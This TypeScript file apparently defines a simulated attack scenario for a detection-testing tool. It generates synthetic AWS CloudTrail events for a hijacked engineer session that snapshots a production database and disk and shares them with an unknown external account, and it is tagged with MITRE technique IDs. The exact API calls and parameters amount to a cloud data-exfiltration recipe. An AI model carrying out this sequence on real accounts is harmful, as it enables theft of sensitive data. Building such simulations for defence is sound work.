import { ACCOUNTS, place } from '../company/accounts.js'
import { person } from '../company/people.js'
import { signOn } from '../people/aws-session.js'
import type { Attack } from '../story.js'

const victim = person('priya.nair')
const account = ACCOUNTS.prod
const stranger = '902418837751'

export const snapshotsShared: Attack = {
  id: 'snapshots-shared',
  title: 'Database and disk snapshots are shared with an unknown account',
  story:
    'From a hijacked session of priya.nair, snapshots of the records database and of a worker disk are made and shared with an account nobody knows, where they can be copied at leisure.',
  techniques: ['T1537', 'T1578.001', 'T1078.004'],
  identities: [victim.email, stranger],
  at: 0.82,
  hour: 20.2,
  minSeverity: 'high',
  play(stage) {
    const browser =
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'
    const caller = signOn(stage.world, stage.random, {
      owner: '',
      email: victim.email,
      account: 'prod',
      set: 'PlatformEngineer',
      ip: stage.address('hongkong-alibaba').ip,
      browser,
      agent: browser,
      console: true,
      at: stage.at,
      note: (id) => stage.note('aws-cloudtrail', id),
    })
    const spot = place('prod', 'us-east-1')
    const database = spot.databases[0] as string
    for (const api of [
      'rds:DescribeDBInstances',
      'ec2:DescribeVolumes',
      'ec2:DescribeSnapshots',
      'rds:DescribeDBSnapshots',
    ])
      stage.wait(3, 20).aws(caller, api)
    const dBSnapshotIdentifier = `${database}-tmp`
    stage.aws(caller, 'rds:CreateDBSnapshot', {
      params: { dBInstanceIdentifier: database, dBSnapshotIdentifier },
      response: {
        dBSnapshotIdentifier,
        dBInstanceIdentifier: database,
        status: 'creating',
        snapshotType: 'manual',
        encrypted: false,
        engine: 'postgres',
      },
    })
    const snapshotId = `snap-0${stage.random.hex(16)}`
    stage.aws(caller, 'ec2:CreateSnapshot', {
      params: { volumeId: `vol-0${stage.random.hex(16)}`, description: '' },
      response: {
        requestId: stage.random.uuid(),
        snapshotId,
        ownerId: account,
        status: 'pending',
        encrypted: false,
      },
    })
    stage.wait(600, 1200)
    stage.aws(
      caller,
      'rds:ModifyDBSnapshotAttribute',
      {
        params: { dBSnapshotIdentifier, attributeName: 'restore', valuesToAdd: [stranger] },
        response: {
          dBSnapshotIdentifier,
          dBSnapshotAttributes: [{ attributeName: 'restore', attributeValues: [stranger] }],
        },
      },
      true,
    )
    stage.aws(
      caller,
      'ec2:ModifySnapshotAttribute',
      {
        params: {
          snapshotId,
          attributeType: 'CREATE_VOLUME_PERMISSION',
          createVolumePermission: { add: { items: [{ userId: stranger }] } },
        },
        response: { requestId: stage.random.uuid(), _return: true },
      },
      true,
    )
    stage.wait(900, 2400)
    stage.aws(
      {
        identity: {
          json: JSON.stringify({ accountId: account, invokedBy: 'ec2.amazonaws.com' }),
          arn: '',
          account,
          accessKeyId: '',
          principalId: '',
        },
        ip: 'ec2.amazonaws.com',
        agent: 'ec2.amazonaws.com',
      },
      'ec2:SharedSnapshotVolumeCreated',
      {
        type: 'AwsServiceEvent',
        params: null,
        serviceDetails: { snapshotId },
        sharedEventId: stage.random.uuid(),
      },
      true,
    )
  },
}
